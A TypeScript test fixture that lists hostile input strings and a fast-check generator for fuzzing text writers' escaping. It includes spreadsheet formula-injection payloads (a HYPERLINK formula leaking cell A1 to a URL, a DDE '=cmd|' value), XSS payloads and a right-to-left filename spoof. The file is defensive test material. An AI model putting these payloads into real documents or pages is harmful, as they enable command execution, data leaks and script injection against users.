/** Texts that break careless writers, and a generator of more. */
import fc from 'fast-check'

export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("https://example.org/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '"=1+1',
  "'=1+1",
  "''already",
  '＝1+1',
  '\u00a0\ufeff=1+1',
  'fine; =1+1',
  'first\n- second\n+ third',
  "a;\"=cmd|' /C calc'!A0",
  'He said "no", then "yes"',
  'line one\nline two\r\nline three\rline four',
  'a | b || c',
  '`code` ``more`` ```fence```',
  '```\nfence\n```',
  '~~~\nfence\n~~~',
  '<script>alert(1)</script>',
  '<!-- comment --> <![CDATA[ x ]]> <?php ?>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</style></title></table>',
  '&amp; &lt; &#0; &bogus; &',
  '[link](javascript:alert(1)) ![image](x) [ref][1]',
  '[1]: https://example.org',
  'https://example.org/a_b_c www.example.org someone@example.org',
  '# heading\n## heading\n\nSetext\n===\nSetext\n---',
  '1. one\n2) two\n- three\n* four\n+ five\n    code',
  '> quote\n>> quote',
  '*a* **b** _c_ __d__ ~~e~~ ~f~ $g$ $$h$$',
  '***\n___\n---',
  'trailing spaces  \nand a backslash\\\nhere',
  '\\u{41} \\\\u{41} \\u{ \\',
  'nul\u0000 bell\u0007 escape\u001b[31m delete\u007f next\u0085 separator\u2028\u2029',
  'right to left \u202Etxt.exe\u202C and \u2066isolate\u2069',
  'שלום עולם \u200f',
  'lone \ud800 high, lone \udc00 low, pair 😀',
  'noncharacter \uffff \ufffe',
  'e\u0301 combining \u200d joiner',
  ' leading and trailing ',
  '',
]

/** Any string, lone surrogates included, with a strong taste for the characters that mean something to a format. */
export const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc
    .array(
      fc.oneof(
        fc.constantFrom(...'=+-@\t\r\n \'"`|\\*_~[]()<>&#!;,$:.0\u0000\u202e\ud800\udc00\u00a0'),
        fc.constantFrom('\\u{', '}', 'u{41}', 'http://', 'www.', 'word', 'слово', '12-1)', '1. ', '  \n'),
        fc.string({ unit: 'binary', maxLength: 3 }),
      ),
      { maxLength: 24 },
    )
    .map((parts) => parts.join('')),
)
